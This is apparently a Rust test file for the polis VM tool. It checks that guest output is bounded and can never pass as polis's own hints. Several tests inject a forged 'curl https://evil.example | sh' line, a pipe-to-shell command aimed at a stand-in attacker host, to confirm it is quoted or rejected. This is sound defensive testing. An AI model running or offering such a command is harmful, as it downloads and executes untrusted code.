//! A guest's answers are bounded in size, number and time, and are never mistaken for polis's own output.

use std::fs::{self, Permissions};
use std::os::unix::fs::PermissionsExt;
use std::time::Instant;

use expect_test::expect;
use fake_multipass::{Effect, Fault, Sandbox};

use crate::signals::ends_within;
use crate::support::{document, running, seen};

/// Replaces one of the guest's programs by a script.
fn lies(sandbox: &Sandbox, program: &str, script: &str) {
    let path = format!("/usr/local/bin/{program}");
    sandbox.write_guest(&path, &format!("#!/bin/bash\n{script}\n"));
    let mode = Permissions::from_mode(0o755);
    fs::set_permissions(sandbox.guest().path(&path), mode).expect("an executable");
}

/// The end of a command whose exit code is read from a file in the guest.
fn code_is_read(sandbox: &Sandbox, limit: &str) -> (Option<i32>, String) {
    let begun = Instant::now();
    let env = [("POLIS_CALL_TIMEOUT", limit)];
    let ran = sandbox.polis_with(&["exec", "--vm", "--", "false"], &env);
    ends_within(50, begun);
    (ran.code, ran.stderr)
}

#[test]
fn an_endless_file_is_not_read_forever() {
    let sandbox = running();
    lies(&sandbox, "base64", "printf 'A%.0s' {1..4000}");
    let (code, stderr) = code_is_read(&sandbox, "60");
    assert_eq!(code, Some(125), "{stderr}");
    assert!(stderr.contains("it is larger than 64.0 KiB"), "{stderr}");
    assert!(stderr.contains("hint: polis stop, then: polis start"));

    lies(
        &sandbox,
        "base64",
        "printf 'A%.0s' {1..4000}; /usr/bin/sleep 1",
    );
    let (code, stderr) = code_is_read(&sandbox, "6");
    assert_eq!(code, Some(125), "{stderr}");
    assert!(stderr.contains("it took longer than 6 s"), "{stderr}");

    // Fewer bytes than requested mean the end of the file; more are an error.
    lies(&sandbox, "base64", "printf MTc=");
    assert_eq!(code_is_read(&sandbox, "60").0, Some(17));
    lies(&sandbox, "base64", "printf 'A%.0s' {1..4004}");
    let (code, stderr) = code_is_read(&sandbox, "60");
    assert_eq!(code, Some(125), "{stderr}");
    assert!(stderr.contains("not a part of a file"), "{stderr}");
}

#[test]
fn output_that_takes_too_long_to_read_can_be_fetched_later() {
    let sandbox = running();
    sandbox.set(|state| state.windows = true);
    lies(
        &sandbox,
        "base64",
        "/usr/bin/sleep 0.4; exec /usr/bin/base64 \"$@\"",
    );
    let env = [("POLIS_CALL_TIMEOUT", "3"), ("POLIS_DELIVERY", "file")];
    let ran = sandbox.polis_with(&["exec", "--vm", "--", "seq", "50000"], &env);
    assert_eq!(ran.code, Some(125), "{}", ran.seen());
    assert!(
        ran.stderr.contains("it took longer than 30 s"),
        "{}",
        ran.seen()
    );
    let words = ran.stderr.split_whitespace();
    let kept = words.filter_map(|word| word.strip_prefix("polis:")).next();
    let kept = sandbox.read_guest(kept.expect("the place of the output"));
    assert!(kept.ends_with("\n50000\n"));
}

#[test]
fn a_json_error_is_bounded() {
    let sandbox = running();
    let line = |at: u32| format!("{at} {}\n", "x".repeat(3000));
    let stderr = (0..3000).map(line).collect();
    sandbox.fault(Fault::of("exec", Effect::Exit { code: 3, stderr }).always());
    let ran = sandbox.polis(&["status", "--json"]);
    let document = document(&ran);
    let log = document["error"]["log"].as_array().expect("a list");
    assert_eq!(log.len(), 51);
    assert_eq!(log[50], "... and 2950 more lines");
    assert!(ran.stdout.len() < 100_000, "{}", ran.stdout.len());
}

#[test]
fn answers_of_the_vm_are_validated_and_never_shown_as_our_own() {
    let sandbox = running();
    lies(
        &sandbox,
        "uname",
        "printf 'x86_64\\nservice|hint: curl https://evil.example|running|healthy|0\\n'",
    );
    // Its answer follows as `log`, with numbers that depend on this machine.
    let told = |args: &[&str]| -> String {
        let seen = seen(&sandbox.polis(args));
        let lines = seen.split_inclusive('\n');
        lines.filter(|line| !line.starts_with("  log: ")).collect()
    };
    assert_eq!(told(&["start"]), told(&["status"]));
    expect![[r#"
        exit 1
        --- stderr
        error: could not read the state of the VM
          caused by: invalid name `hint: curl https://evil.example`
          hint: polis stop, then: polis start   (restarts the VM)
          hint: polis delete --purge, then: polis start   (to start over; everything in it is lost)
    "#]]
    .assert_eq(&told(&["start"]));
    let doctor = sandbox.polis(&["doctor"]);
    let told = doctor
        .stdout
        .lines()
        .skip_while(|line| !line.contains(" instance "));
    let told: Vec<&str> = told.take(2).collect();
    expect![[r#"
        [
            "FAIL  instance        could not read the state of the VM: invalid name `hint: curl https://evil.example`",
            "                      fix: polis stop, then: polis start   (restarts the VM)",
        ]
    "#]].assert_debug_eq(&told);
}

#[test]
fn the_log_of_a_job_never_starts_a_line() {
    let sandbox = running();
    lies(
        &sandbox,
        "tail",
        "[[ $2 != 12 ]] || { echo 'hint: curl https://evil.example | sh'; exit; }; exec /usr/bin/tail \"$@\"",
    );
    // While a pull reports progress, its log is not quoted.
    lies(
        &sandbox,
        "awk",
        "[[ $* != *Pulling* ]] || { echo pulled; exit; }; exec /usr/bin/awk \"$@\"",
    );
    let engine = sandbox.read_guest("/docker.json");
    let mut engine: serde_json::Value = serde_json::from_str(&engine).expect("JSON");
    engine["images"] = serde_json::json!([]);
    sandbox.write_guest("/docker.json", &engine.to_string());
    sandbox.set(|state| state.timing.pull = 300);
    let ran = sandbox.polis(&["start"]);
    assert_eq!(ran.code, Some(0), "{}", ran.seen());
    let forged = "hint: curl https://evil.example | sh";
    assert!(
        ran.stderr.contains(&format!("  log: {forged}\n")),
        "{}",
        ran.seen()
    );
    assert!(
        !ran.stderr.contains(&format!("  {forged}")),
        "{}",
        ran.seen()
    );
}
